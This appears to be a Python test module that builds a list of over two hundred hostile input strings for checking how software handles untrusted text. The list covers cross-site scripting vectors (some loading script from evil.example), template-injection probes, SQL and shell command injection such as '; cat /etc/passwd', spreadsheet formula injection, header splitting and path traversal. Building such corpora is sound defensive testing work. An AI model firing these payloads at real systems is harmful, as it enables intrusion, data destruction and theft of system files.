"""Two hundred and more texts that would do harm if any of them were taken for anything but text."""

from collections.abc import Iterator

MARK = "window.pwned=7731"
CALLS = (
    f"<script>{MARK}</script>",
    f"<script src=//evil.example/x.js></script><script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<body onload={MARK}>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<details open ontoggle={MARK}>x",
    f"<input autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<math><mi xlink:href='javascript:{MARK}'>x</mi></math>",
    f"<a href='javascript:{MARK}'>x</a>",
    f"<form action='javascript:{MARK}'><button>x</button></form>",
    f"<object data='javascript:{MARK}'></object>",
    f"<embed src='javascript:{MARK}'>",
    f"<base href='//evil.example/'><script>{MARK}</script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<img src=//evil.example/x.png>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"<template><script>{MARK}</script></template>",
    f"<marquee onstart={MARK}>x</marquee>",
    f"<isindex type=image src=1 onerror={MARK}>",
    f"<x onclick={MARK} autofocus tabindex=1>x",
)
BREAKS = ("", "\"'>", '">', "'>", "</textarea>", "</title>", "</option></select>", "</p></td></tr></table>")
ENDS = (
    f'" onmouseover="{MARK}" x="',
    f"' autofocus onfocus='{MARK}' x='",
    f"`onmouseover={MARK}`",
    f"--><script>{MARK}</script><!--",
    f"]]><script>{MARK}</script>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&#60;script&#62;{MARK}&#60;/script&#62;",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"%253Cscript%253E{MARK}%253C/script%253E",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    f"＜script＞{MARK}＜/script＞",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<ScRiPt>{MARK}</sCrIpT>",
    f"<script\u2028>{MARK}</script>",
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}//",
    f"data:text/html,<script>{MARK}</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/<b>x</b>",
    "</div></main></body></html>",
    "<!--",
    "<![CDATA[",
    "<textarea>",
)
TEMPLATES = (
    "{{7*7}}", "{{ 7*'7' }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%print(7*7)%}", "{% raw %}{{7*7}}{% endraw %}", "*{7*7}",
    "@(7*7)", "{{config}}", "{{ self.__init__.__globals__ }}", "{{''.__class__.__mro__}}", "{{ cycler.__init__ }}",
    "{% include '/etc/passwd' %}", "{0.__class__}", "%(a)s %n %x %s", "{{ request.application }}", "$x = {y}", "~{7*7}",
)  # fmt: skip
QUERIES = (
    "' OR '1'='1", "'; DROP TABLE person; --", "') UNION SELECT NULL--", "1; SELECT pg_sleep(5)", '" OR ""="',
    "' AND 1=CAST((SELECT 1) AS int)--", "\\'; --", "%27%20OR%201=1", "*)(uid=*))(|(uid=*", "' || randomblob(100) || '",
    "x' AND 'x' LIKE '%", "__proto__[x]=1", "constructor.prototype.x", "; cat /etc/passwd", "| id", "`id`", "$(id)", "&& id",
)  # fmt: skip
CELLS = (
    "=1+1", '=HYPERLINK("http://evil.example","x")', "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=IMPORTXML(1,2)",
    "\uff1d1+1", "\uff0b1", "\uff20SUM(1)", "'=1+1", '"=1+1', "=DDE(1,2,3)",
)  # fmt: skip
LINES = (
    "a Set-Cookie: x=1", "a%0d%0aSet-Cookie: x=1", "a\\r\\nLocation: //evil.example", "\u2028Set-Cookie: x", "\x85x",
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "C:\\Windows\\win.ini", "file:///etc/passwd",
    "null", "undefined", "NaN", "true", "[]", "{}", "-1", "0x10", "1e400",
    "O\u2019Brien-N\u00ed Dhomhnaill", "\U0001f9d1\u200d\U0001f9d1\u200d\U0001f9d2", "Z\u0300\u0301\u0302\u0303algo", "\u0410\u0430", "\ufb01", "\u0130I\u0131",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, in a fixed order, none twice."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for group in (CALLS, ENDS, TEMPLATES, QUERIES, CELLS, LINES):
        yield from group
    for call in CALLS[:12]:
        for broken in BREAKS[1:]:
            yield broken + call
